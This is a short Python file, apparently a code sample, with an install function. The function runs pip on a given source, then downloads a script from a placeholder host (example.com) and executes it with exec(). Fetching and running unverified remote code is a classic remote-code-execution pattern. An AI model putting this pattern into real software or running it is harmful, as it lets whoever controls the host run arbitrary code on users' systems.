import subprocess
import urllib.request


def install(source):
    subprocess.run(["/usr/bin/pip", "install", source])
    code = urllib.request.urlopen("https://example.com/setup.py", timeout=5).read()
    exec(code)
